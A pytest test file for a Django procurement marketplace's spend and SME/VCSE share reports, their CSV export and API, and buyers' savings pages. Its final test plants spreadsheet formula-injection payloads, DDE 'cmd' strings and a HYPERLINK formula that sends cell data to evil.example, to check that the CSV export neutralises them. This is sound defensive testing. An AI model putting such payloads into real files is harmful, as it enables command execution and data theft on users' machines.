"""The marketplace's public figures against hand-computed ones: call-off spend by framework and
lot, the SME and VCSE share by value and by count against the target, suppliers listed by
size; the report page, its CSV and its API; a buyer's savings page and API."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from levelfield.insights.actions_unit_costs import set_unit_cost
from levelfield.marketplace import reports
from levelfield.marketplace.lifecycle import ListingStatus
from levelfield.suppliers.models import Size
from tests.support import call_offs, marketplace, testing

pytestmark = pytest.mark.django_db

MICRO, SMALL, MEDIUM, LARGE = Size.MICRO, Size.SMALL, Size.MEDIUM, Size.LARGE


@pytest.fixture
def shop():
    """Four call-offs: the micro supplier's on lot 1 (£10,000), the large one's on lot 1
    (£60,000), the small VCSE's on lot 3 (£20,000), the medium one's on lot 2 (£10,000); and
    what must not count: a project not awarded, and a call-off whose contract is not signed."""
    shop = call_offs.catalogue()
    by = shop.buyer_officer
    for size, value in ((MICRO, "10000"), (LARGE, "60000"), (SMALL, "20000"), (MEDIUM, "10000")):
        call_offs.awarded(shop.buyer, shop.listings[size], by=by, value=value)
    call_offs.not_awarded(shop.buyer, [shop.listings[LARGE]], by=by)
    call_offs.awarded(shop.buyer, shop.listings[LARGE], by=by, value="999999", signed=False)
    return shop


def test_the_shares_are_the_hand_computed_ones(shop):
    found = reports.report()
    assert (found.total.value, found.total.count) == (Decimal("100000.00"), 4)
    sme, vcse = found.shares
    # SMEs: £10,000 + £20,000 + £10,000 of £100,000; 3 call-offs of 4.
    assert (sme.value, sme.count) == (Decimal("40000.00"), 3)
    assert (sme.share_by_value, sme.share_by_count) == (Decimal("40.0"), Decimal("75.0"))
    assert sme.target == Decimal("33") and sme.meets_target is True
    # The VCSE: £20,000 of £100,000; 1 of 4; no VCSE target unless set.
    assert (vcse.share_by_value, vcse.share_by_count) == (Decimal("20.0"), Decimal("25.0"))
    assert vcse.target is None and vcse.meets_target is None


def test_spend_by_framework_and_lot(shop):
    lots = {lot.lot_number: lot for lot in reports.report().by_lot}
    assert sorted(lots) == [1, 2, 3]
    hosting = lots[1]
    assert (hosting.framework_reference, hosting.lot_title) == ("LF-CLOUD-1", "Cloud hosting")
    assert (hosting.value, hosting.count) == (Decimal("70000.00"), 2)
    # £10,000 of £70,000 = 14.2857...%: 14.3 to one place; 1 of 2 call-offs.
    assert hosting.sme_share_by_value == Decimal("14.3")
    assert hosting.sme_share_by_count == Decimal("50.0")
    assert hosting.vcse_share_by_value == Decimal("0.0")
    assert (lots[3].vcse_value, lots[3].vcse_share_by_count) == (Decimal("20000.00"), 100)


def test_suppliers_listed_by_size_count_live_services_only(shop):
    application = shop.listings[MICRO].application
    lot = shop.framework.lots.get(number=2)
    marketplace.listing(application, lot, by=shop.buyer_admin, name="Second service")
    marketplace.listing(
        application, lot, by=shop.buyer_admin, name="A draft", status=ListingStatus.DRAFT
    )
    found = reports.report()
    assert (found.suppliers_listed, found.services_live) == (4, 5)
    sizes = {size.size: size for size in found.by_size}
    assert [size.size for size in found.by_size] == [MICRO, SMALL, MEDIUM, LARGE]
    assert (sizes[MICRO].suppliers_listed, sizes[MICRO].services_live) == (1, 2)
    assert (sizes[LARGE].value, sizes[LARGE].count) == (Decimal("60000.00"), 1)


def test_a_share_under_the_target_is_not_met(shop, settings):
    settings.LEVELFIELD_INSIGHTS_TARGETS = {"sme": 45.0, "vcse": 10.0}
    sme, vcse = reports.report().shares
    assert sme.meets_target is False and vcse.meets_target is True


def test_one_framework_and_none_at_all():
    shop = call_offs.catalogue()
    other = marketplace.framework(by=shop.platform_admin, reference="LF-CLOUD-2")
    supplier, user = testing.supplier_with_user("Other Cloud", size=LARGE)
    application = marketplace.admitted(other, supplier, by=user, admin=shop.platform_admin)
    listing = marketplace.listing(application, other.lots.get(number=1), by=user, name="Big")
    assert reports.report().shares[0].share_by_value is None
    assert reports.report().shares[0].meets_target is None
    call_offs.awarded(shop.buyer, listing, by=shop.buyer_officer, value="500")
    call_offs.awarded(shop.buyer, shop.listings[MICRO], by=shop.buyer_officer, value="1500")
    assert reports.report().total.value == Decimal("2000.00")
    theirs = reports.report(other)
    assert (theirs.total.value, theirs.shares[0].share_by_value) == (Decimal("500.00"), 0)
    assert (theirs.suppliers_listed, theirs.services_live) == (1, 1)


def test_the_report_reads_in_a_fixed_number_of_queries(shop, django_assert_num_queries):
    with django_assert_num_queries(2):  # the call-offs grouped, the live listings grouped
        reports.report()


# Pages and API -------------------------------------------------------------------------------


def test_anyone_reads_the_report_page(client, shop):
    response = client.get(reverse("marketplace:report"))
    assert response.status_code == 200
    text = response.content.decode()
    assert "£100,000 in 4 call-offs" in text
    assert "40.0% by value" in text and "75.0% by count" in text
    assert "against a target of 33%: met" in text
    assert "Cloud services (LF-CLOUD-1), lot 1: Cloud hosting" in text


def test_the_report_page_for_one_framework_and_a_bad_choice(client, shop):
    response = client.get(reverse("marketplace:report"), {"framework": "LF-CLOUD-1"})
    assert response.status_code == 200 and "Spend and access: Cloud services" in response.text
    response = client.get(reverse("marketplace:report"), {"framework": "NOPE"})
    assert response.status_code == 400 and "There is a problem" in response.text


def test_the_report_csv_holds_the_figures_as_numbers(client, shop):
    response = client.get(reverse("marketplace:report_csv"))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0][:5] == ["Group", "Framework", "Lot", "Call-off value (GBP)", "Call-offs"]
    total = rows[-1]
    assert total[0] == "All call-offs"
    assert total[3:9] == ["100000.00", "4", "40000.00", "40.0", "3", "75.0"]
    assert total[-2:] == ["4", "4"]
    assert [row[0] for row in rows[1:4]] == ["Lot"] * 3


def test_the_report_api(client, shop):
    response = client.get("/api/marketplace/reports")
    assert response.status_code == 200
    data = response.json()
    assert data["framework"] is None
    assert data["total"]["value"] == "100000.00" and data["total"]["count"] == 4
    sme = data["shares"][0]
    assert (sme["share_by_value"], sme["share_by_count"]) == ("40.00", "75.00")
    assert sme["target"] == "33.00" and sme["meets_target"] is True
    assert [lot["lot_number"] for lot in data["by_lot"]] == [1, 2, 3]
    assert client.get("/api/marketplace/reports?framework=LF-CLOUD-1").json()["framework"]
    assert client.get("/api/marketplace/reports?framework=NOPE").status_code == 404


def test_a_buyers_savings_page_and_api(client, shop):
    set_unit_cost(
        by=shop.buyer_admin,
        organisation=shop.buyer,
        unit="hours of support",
        cost_per_unit="50",
        cpv_division="72",
    )
    call_offs.awarded(
        shop.buyer,
        shop.listings[SMALL],
        by=shop.buyer_officer,
        name="Migration support",
        value="8000",
        previous_cost="15500",
    )
    client.force_login(shop.buyer_officer)
    response = client.get(reverse("marketplace:savings"))
    assert response.status_code == 200
    # £7,500 / £50 = 150 hours.
    assert "£7,500 less than before: about 150 hours of support" in response.text
    data = client.get("/api/marketplace/savings").json()
    assert data["count"] == 6  # the five of the fixture (one not yet signed) and this one
    first = data["items"][0]
    assert (first["title"], first["saving"], first["units"]) == (
        "Migration support",
        "7500.00",
        150,
    )
    assert first["supplier"] == "Three Rivers Digital CIC"


def test_savings_are_the_buyers_own(client, shop):
    other = testing.buyer_org("Other Borough Council")
    client.force_login(testing.member(other, "evaluator"))
    response = client.get(reverse("marketplace:savings"))
    assert response.status_code == 200 and "You have not awarded a call-off" in response.text
    assert client.get("/api/marketplace/savings").json()["count"] == 0
    _supplier, supplier_user = testing.supplier_with_user("A supplier")
    client.force_login(supplier_user)
    assert client.get(reverse("marketplace:savings")).status_code == 404
    assert client.get("/api/marketplace/savings").status_code == 403
    client.logout()
    assert client.get(reverse("marketplace:savings")).status_code == 302
    assert client.get("/api/marketplace/savings").status_code == 401


def test_the_report_csv_opens_typed_names_as_text(client):
    """A framework's reference, name and lot titles are typed by the platform admin: in the CSV
    none opens as a formula, and the JSON keeps them as typed."""
    shop = call_offs.catalogue()
    hostile = marketplace.framework(
        by=shop.platform_admin,
        reference="=1+2+cmd|' /C calc'!A0",
        lots=(("@SUM(1+1)*cmd|' /C calc'!A0", ["Compute"], "72400000"),),
    )
    hostile.name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    hostile.save()
    supplier, user = testing.supplier_with_user("\t=3+4 Tab Ltd", size=LARGE)
    application = marketplace.admitted(hostile, supplier, by=user, admin=shop.platform_admin)
    listing = marketplace.listing(application, hostile.lots.get(), by=user, name="-5+6 service")
    call_offs.awarded(shop.buyer, listing, by=shop.buyer_officer, value="100", name="+7 call-off")
    rows = list(csv.reader(io.StringIO(client.get(reverse("marketplace:report_csv")).text)))
    [lot] = [row for row in rows if row[0] == "Lot"]
    assert lot[1].startswith("'=1+2") and 'Click")' in lot[1]
    assert lot[2] == "Lot 1: @SUM(1+1)*cmd|' /C calc'!A0"  # starts with "Lot": not a formula
    data = client.get("/api/marketplace/reports").json()
    assert data["by_lot"][0]["framework_reference"] == "=1+2+cmd|' /C calc'!A0"
    assert data["by_lot"][0]["framework_name"].startswith("=HYPERLINK")
